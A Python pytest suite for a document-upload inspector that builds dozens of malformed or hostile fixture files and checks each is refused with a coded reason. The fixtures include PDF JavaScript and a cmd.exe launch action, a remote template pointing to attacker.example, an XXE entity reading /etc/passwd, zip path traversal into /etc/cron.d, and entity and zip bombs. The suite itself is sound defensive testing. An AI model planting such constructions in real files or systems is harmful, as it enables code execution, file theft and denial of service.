"""Every broken or dangerous file is refused with words that say what to do, quickly and without an exception."""

import io
import random
import struct
import time
import zipfile
import zlib
from collections.abc import Callable

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from gongkai.documents import files
from gongkai.documents.text import plain_text
from gongkai.documents.word import from_docx
from tests.documents import builders as b

LOW = files.Limits(size=2_000_000, entries=50, unpacked=3_000_000, ratio=100, ratio_floor=50_000, pixels=1_000_000)


def scripted(where: str) -> bytes:
    writer = b.pdf_writer()
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    if where == "open":
        writer.root_object[NameObject("/OpenAction")] = action
    elif where == "page":
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    elif where == "launch":
        launch = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
        )
        writer.root_object[NameObject("/OpenAction")] = launch
    elif where == "submit":
        submit = DictionaryObject({NameObject("/S"): NameObject("/SubmitForm")})
        writer.root_object[NameObject("/OpenAction")] = submit
    elif where == "xfa":
        writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/XFA"): ArrayObject()})
    elif where == "nested":
        holder = DictionaryObject({NameObject("/Next"): ArrayObject([DictionaryObject({NameObject("/Next"): action})])})
        writer._add_object(holder)
    return b.written(writer)


def script_in_object_stream() -> bytes:
    """Hide the script in a compressed object stream, where a search of the raw bytes does not see it."""
    inner = b"<</S/JavaScript/JS(app.alert(1))>>"
    packed = zlib.compress(b"4 0 " + inner)
    objects = [
        b"1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>> endobj\n",
        b"2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n",
        b"3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>> endobj\n",
        b"5 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%b\nendstream endobj\n"
        % (len(packed), packed),
    ]
    out = b"%PDF-1.5\n"
    places = {}
    for number, content in zip((1, 2, 3, 5), objects, strict=True):
        places[number] = len(out)
        out += content
    start = len(out)
    rows = [struct.pack(">BHB", 0, 0, 255)]
    for number in range(1, 7):
        if number == 4:
            rows.append(struct.pack(">BHB", 2, 5, 0))
        else:
            rows.append(struct.pack(">BHB", 1, places.get(number, start), 0))
    table = zlib.compress(b"".join(rows))
    out += b"6 0 obj <</Type/XRef/Size 7/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n%b\nendstream endobj\n" % (
        len(table), table)  # fmt: skip
    return out + b"startxref\n%d\n%%%%EOF" % start


def locked() -> bytes:
    writer = b.pdf_writer()
    writer.encrypt("secret", algorithm="RC4-128")
    return b.written(writer)


def deep_pdf() -> bytes:
    writer = b.pdf_writer()
    found: ArrayObject = ArrayObject()
    for _ in range(200):
        found = ArrayObject([found])
    writer._add_object(DictionaryObject({NameObject("/Deep"): found}))
    return b.written(writer)


def zip_flagged(flag: int) -> bytes:
    data = bytearray(b.docx_bytes())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= flag
            at = data.find(mark, at + 4)
    return bytes(data)


def many_entries() -> bytes:
    return b.repacked(b.docx_bytes(), {f"word/extra{n}.xml": b"<a/>" for n in range(80)})


def duplicated() -> bytes:
    out = io.BytesIO(b.docx_bytes())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/document.xml", b"<a/>")
    return out.getvalue()


def overlapping() -> bytes:
    """Let every entry of the directory point to one body, claimed at full size by each."""
    body = zlib.compress(b"0" * 40_000, 9)[2:-4]
    check = zlib.crc32(b"0" * 40_000)
    names = [b"[Content_Types].xml", *(b"word/%d.xml" % n for n in range(40))]
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, check, len(body), 40_000, len(names[0]), 0)
    out = local + names[0] + body
    start, central = len(out), b""
    for name in names:
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, check, len(body), 40_000,
                               len(name), 0, 0, 0, 0, 0, 0) + name  # fmt: skip
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(names), len(names), len(central), start, 0)
    return out + central + end


def sheet_cell(place: bytes) -> bytes:
    return b.with_part(b.xlsx_bytes(), "xl/worksheets/sheet1.xml", b'r="B2"', b'r="' + place + b'"')


def macro_docx() -> bytes:
    types = b.part(b.docx_bytes(), "[Content_Types].xml")
    macro = types.replace(b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                          b"application/vnd.ms-word.document.macroEnabled.main+xml")  # fmt: skip
    return b.repacked(b.docx_bytes(), {"[Content_Types].xml": macro, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def external(kind: str) -> bytes:
    rels = b.part(b.docx_bytes(), "word/_rels/document.xml.rels")
    relation = (f'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
                'Target="https://attacker.example/x.dotm" TargetMode="External"/></Relationships>')  # fmt: skip
    return b.repacked(
        b.docx_bytes(), {"word/_rels/document.xml.rels": rels.replace(b"</Relationships>", relation.encode())}
    )


BILLION = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>'
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)


def png_claiming(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))
    return b"\x89PNG\r\n\x1a\n" + chunk + b.image_bytes()[33:]


def noise(length: int, seed: int = 7) -> bytes:
    return random.Random(seed).randbytes(length)


Case = tuple[str, Callable[[], bytes], str, str]
CASES: list[Case] = [
    ("empty", lambda: b"", "a.pdf", "file_empty"),
    ("too large", lambda: b"a" * 2_000_001, "a.txt", "file_too_large"),
    ("noise", lambda: b"\x00\x01" + noise(500), "a.pdf", "file_kind_unknown"),
    ("noise named docx", lambda: b"\x00\x02" + noise(500, 3), "a.docx", "file_kind_unknown"),
    ("nulls", lambda: bytes(4000), "a.csv", "file_kind_unknown"),
    ("program", lambda: b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200), "a.pdf", "file_kind_refused"),
    ("linux program", lambda: b"\x7fELF\x02\x01\x01" + bytes(200), "a.jpg", "file_kind_refused"),
    ("html", lambda: b"<!DOCTYPE html><html><script>1</script></html>", "a.txt", "file_kind_refused"),
    ("html as csv", lambda: b"<html><body>x", "a.csv", "file_kind_refused"),
    ("svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "a.png", "file_kind_refused"),
    ("xml", lambda: b"<?xml version='1.0'?><a/>", "a.txt", "file_kind_refused"),
    ("entity bomb alone", lambda: BILLION, "a.docx", "file_kind_refused"),
    ("zip", lambda: b.zip_bytes(a=b"x"), "a.zip", "file_archive"),
    ("empty zip", lambda: b"PK\x05\x06" + bytes(18), "a.zip", "file_archive"),
    ("zip as pdf", lambda: b.zip_bytes(a=b"x"), "a.pdf", "file_archive"),
    ("rar", lambda: b"Rar!\x1a\x07\x01\x00" + noise(100), "a.rar", "file_archive"),
    ("7z", lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + noise(100), "a.7z", "file_archive"),
    ("gzip", lambda: b"\x1f\x8b\x08\x00" + noise(100), "a.gz", "file_archive"),
    ("old word", lambda: OLD, "a.doc", "file_old_office"),
    ("old excel as xlsx", lambda: OLD, "a.xlsx", "file_old_office"),
    ("password office", lambda: OLD + "EncryptedPackage".encode("utf-16-le"), "a.docx", "file_encrypted"),
    ("powerpoint", lambda: b.zip_bytes(ppt__presentation_xml=b"", **{"ppt/presentation.xml": b"<a/>"}), "a.pptx",
     "file_kind_refused"),
    ("pdf named jpg", b.pdf_bytes, "a.jpg", "file_name_mismatch"),
    ("png named pdf", b.image_bytes, "a.pdf", "file_name_mismatch"),
    ("docx named xlsx", b.docx_bytes, "a.xlsx", "file_name_mismatch"),
    ("xlsx named exe", b.xlsx_bytes, "a.xlsx.exe", "file_name_mismatch"),
    ("no extension", b.pdf_bytes, "report", "file_name_missing_extension"),
    ("text named pdf", "正文".encode, "a.pdf", "file_name_mismatch"),
    ("truncated docx", lambda: b.docx_bytes()[:-300], "a.docx", "file_damaged"),
    ("half docx", lambda: b.docx_bytes()[:5000], "a.docx", "file_damaged"),
    ("head of xlsx", lambda: b.xlsx_bytes()[:40], "a.xlsx", "file_damaged"),
    ("docx without document", lambda: b.repacked(b.docx_bytes(), {"word/document.xml": None}), "a.docx", "file_damaged"),
    ("bytes flipped", lambda: b.docx_bytes()[:200] + noise(200) + b.docx_bytes()[400:], "a.docx", "file_damaged"),
    ("entries doubled", duplicated, "a.docx", "file_damaged"),
    ("entries locked", lambda: zip_flagged(1), "a.docx", "file_encrypted"),
    ("macro word", macro_docx, "a.docx", "file_macros"),
    ("macro named docm", macro_docx, "a.docm", "file_macros"),
    ("vba part", lambda: b.repacked(b.xlsx_bytes(), {"xl/vbaProject.bin": b"x"}), "a.xlsx", "file_macros"),
    ("macro sheet", lambda: b.repacked(b.xlsx_bytes(), {"xl/macrosheets/sheet1.xml": b"<a/>"}), "a.xlsx", "file_macros"),
    ("script part", lambda: b.repacked(b.docx_bytes(), {"word/run.vbs": b"x"}), "a.docx", "file_macros"),
    ("activex", lambda: b.repacked(b.docx_bytes(), {"word/activeX/activeX1.bin": b"x"}), "a.docx", "file_active_content"),
    ("ole object", lambda: b.repacked(b.docx_bytes(), {"word/embeddings/oleObject1.bin": b"x"}), "a.docx",
     "file_active_content"),
    ("exe inside", lambda: b.repacked(b.docx_bytes(), {"word/media/a.exe": b"MZ"}), "a.docx", "file_active_content"),
    ("remote template", lambda: external("attachedTemplate"), "a.docx", "file_external_parts"),
    ("remote object", lambda: external("oleObject"), "a.docx", "file_external_parts"),
    ("remote frame", lambda: external("frame"), "a.docx", "file_external_parts"),
    ("ratio bomb", lambda: b.repacked(b.docx_bytes(), {"word/media/a.bin": bytes(1_000_000)}), "a.docx", "file_bomb"),
    ("size bomb", lambda: b.repacked(b.docx_bytes(), {f"word/{n}.bin": noise(5_000) * 180 for n in range(4)}), "a.docx",
     "file_bomb"),
    ("entry bomb", many_entries, "a.docx", "file_bomb"),
    ("entity bomb", lambda: b.repacked(b.docx_bytes(), {"word/document.xml": BILLION}), "a.docx", "file_entities"),
    ("outside entity", lambda: b.repacked(b.xlsx_bytes(), {"xl/workbook.xml": OUTSIDE}), "a.xlsx", "file_entities"),
    ("entity in ofd", lambda: b.repacked(b.ofd_bytes(), {"Doc_0/Document.xml": BILLION}), "a.ofd", "file_entities"),
    ("utf-16 entity", lambda: b.repacked(b.docx_bytes(), {"word/styles.xml": BILLION.decode().encode("utf-16")}), "a.docx",
     "file_entities"),
    ("path upwards", lambda: b.repacked(b.docx_bytes(), {"../../etc/cron.d/x": b"x"}), "a.docx", "file_paths"),
    ("absolute path", lambda: b.repacked(b.docx_bytes(), {"/etc/passwd": b"x"}), "a.docx", "file_paths"),
    ("drive path", lambda: b.repacked(b.docx_bytes(), {"C:\\x.xml": b"<a/>"}), "a.docx", "file_paths"),
    ("far cell", lambda: sheet_cell(b"XFD1048576"), "a.xlsx", "file_sheet_extent"),
    ("far row", lambda: sheet_cell(b"ZZ1000000"), "a.xlsx", "file_sheet_extent"),
    ("impossible row", lambda: sheet_cell(b"B99999999999"), "a.xlsx", "file_sheet_extent"),
    ("impossible column", lambda: sheet_cell(b"ZZZZZ2"), "a.xlsx", "file_sheet_extent"),
    ("pdf head only", lambda: b"%PDF-1.7\n", "a.pdf", "file_damaged"),
    ("pdf noise", lambda: b"%PDF-1.7\n" + noise(3000), "a.pdf", "file_damaged"),
    ("pdf without pages", lambda: b.written(PdfWriter()), "a.pdf", "pdf_no_pages"),
    ("pdf looped pages", lambda: b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 9>>endobj\n"
     b"trailer<</Root 1 0 R>>\n%%EOF", "a.pdf", "file_damaged"),
    ("pdf locked", locked, "a.pdf", "file_encrypted"),
    ("pdf script", lambda: scripted("open"), "a.pdf", "pdf_scripts"),
    ("pdf page script", lambda: scripted("page"), "a.pdf", "pdf_scripts"),
    ("pdf launch", lambda: scripted("launch"), "a.pdf", "pdf_scripts"),
    ("pdf submit", lambda: scripted("submit"), "a.pdf", "pdf_scripts"),
    ("pdf xfa", lambda: scripted("xfa"), "a.pdf", "pdf_scripts"),
    ("pdf nested script", lambda: scripted("nested"), "a.pdf", "pdf_scripts"),
    ("pdf packed script", script_in_object_stream, "a.pdf", "pdf_scripts"),
    ("pdf too deep", deep_pdf, "a.pdf", "pdf_too_complex"),
    ("png truncated", lambda: b.image_bytes()[:60], "a.png", "file_damaged"),
    ("png head", lambda: b"\x89PNG\r\n\x1a\n", "a.png", "file_damaged"),
    ("png huge claim", lambda: png_claiming(60_000, 60_000), "a.png", "image_too_large"),
    ("png beyond memory", lambda: png_claiming(2_000_000_000, 2_000_000_000), "a.png", "image_too_large"),
    ("jpeg truncated", lambda: b.image_bytes("JPEG")[:200], "a.jpg", "file_damaged"),
    ("jpeg head", lambda: b"\xff\xd8\xff\xe0", "a.jpg", "file_damaged"),
    ("webp broken", lambda: b"RIFF\x10\x00\x00\x00WEBPVP8 " + noise(10), "a.webp", "file_damaged"),
    ("gif broken", lambda: b"GIF89a" + noise(30), "a.gif", "file_damaged"),
    ("big picture", lambda: b.image_bytes("PNG", (1200, 1200)), "a.png", "image_too_large"),
    ("text cut by noise", lambda: "正文".encode() * 2000 + b"\xff\xfe\x00\x81\x00" * 9, "a.txt", "text_encoding"),
]  # fmt: skip


@pytest.mark.parametrize(("made", "name", "code"), [case[1:] for case in CASES], ids=[case[0] for case in CASES])
def test_refused_with_reason(made: Callable[[], bytes], name: str, code: str) -> None:
    data = made()
    began = time.monotonic()
    facts = files.inspect(data, name, LOW)
    assert time.monotonic() - began < 5
    assert code in [told.code for told in facts.objections], facts
    assert not facts.accepted
    for told in facts.objections:
        assert told.zh.endswith("。")
        assert told.en.endswith(".")
        assert "{" not in told.zh + told.en


@pytest.mark.parametrize("made", [case[1] for case in CASES], ids=[case[0] for case in CASES])
def test_reading_broken_files_never_raises(made: Callable[[], bytes]) -> None:
    data = made()
    began = time.monotonic()
    for kind in ("pdf", "docx", "xlsx", "ofd", "csv", "txt", "html", "png", "unheard-of"):
        assert isinstance(plain_text(data, kind), str)
    imported = from_docx(data, LOW)
    assert imported.messages or imported.html
    assert files.photo_facts(data).perceptual_hash is not None
    assert time.monotonic() - began < 15


def test_overlapping_parts_are_a_bomb() -> None:
    facts = files.inspect(overlapping(), "a.docx", LOW)
    assert [told.code for told in facts.objections] in (["file_bomb"], ["file_damaged"])


def test_at_least_sixty_kinds_of_broken_files() -> None:
    assert len({case[1]() for case in CASES if case[0] != "entries doubled"}) >= 60


@pytest.mark.parametrize(
    ("made", "name", "kind"),
    [
        (b.pdf_bytes, "年报.pdf", "pdf"), (b.docx_bytes, "通知.DOCX", "docx"), (b.xlsx_bytes, "表.xlsx", "xlsx"),
        (b.ofd_bytes, "文.ofd", "ofd"), (b.image_bytes, "a.png", "png"), (b.photo_bytes, "a.jpeg", "jpg"),
        (lambda: b.image_bytes("WEBP"), "a.webp", "webp"), (lambda: b.image_bytes("GIF"), "a.gif", "gif"),
        (lambda: "项目,金额\n路,1\n".encode("gb18030"), "a.csv", "csv"), ("正文\r\n".encode, "a.txt", "txt"),
        ("﻿a,b".encode, "C:\\资料\\a.csv", "csv"), (lambda: "文".encode("utf-16"), "a.txt", "txt"),
        (("中" * 5000).encode, "长.txt", "txt"),
    ],
)  # fmt: skip
def test_sound_files_are_let_in(made: Callable[[], bytes], name: str, kind: str) -> None:
    facts = files.inspect(made(), name)
    assert facts.accepted, facts.objections
    assert facts.kind == kind
    assert facts.media_type == files.KINDS[kind].media_type
    assert len(facts.sha256) == 64
    assert "\\" not in facts.name


def test_files_are_read_from_paths(tmp_path) -> None:
    place = tmp_path / "a.pdf"
    place.write_bytes(b.pdf_bytes())
    assert files.inspect(place, "a.pdf").pages == 1
    assert files.inspect(place, "a.pdf", files.Limits(size=10)).objections[0].code == "file_too_large"
    assert files.inspect(tmp_path / "absent", "a.pdf").objections[0].code == "file_unreadable"


def test_cautions_point_out_what_a_reader_would_see() -> None:
    out = io.BytesIO()
    import xlsxwriter

    with xlsxwriter.Workbook(out) as book:
        book.add_worksheet("公开").write(0, 0, 1)
        book.add_worksheet("身份证号").hide()
        book.worksheets()[0].write_comment(0, 0, "内部", {"author": "张三"})
    facts = files.inspect(out.getvalue(), "a.xlsx")
    assert facts.accepted
    assert {told.code for told in facts.cautions} == {"caution_hidden_sheets", "caution_comments"}
    assert "身份证号" in facts.cautions[0].zh
    revised = b.with_part(b.docx_bytes(), "word/document.xml", b"<w:p>", b'<w:p><w:del w:id="1" w:author="a"/>')
    assert "caution_revisions" in {told.code for told in files.inspect(revised, "a.docx").cautions}


def test_scans_without_words_are_remarked_upon() -> None:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    facts = files.inspect(b.written(writer), "a.pdf")
    assert facts.accepted
    assert [told.code for told in facts.cautions] == ["caution_no_text"]


def test_unlisted_pdf_objects_do_not_hide_scripts() -> None:
    stream = DecodedStreamObject()
    stream.set_data(b"x")
    writer = b.pdf_writer()
    stream[NameObject("/AA")] = DictionaryObject({NameObject("/S"): NameObject("/Rendition")})
    writer._add_object(stream)
    assert files.inspect(b.written(writer), "a.pdf").objections[0].code == "pdf_scripts"
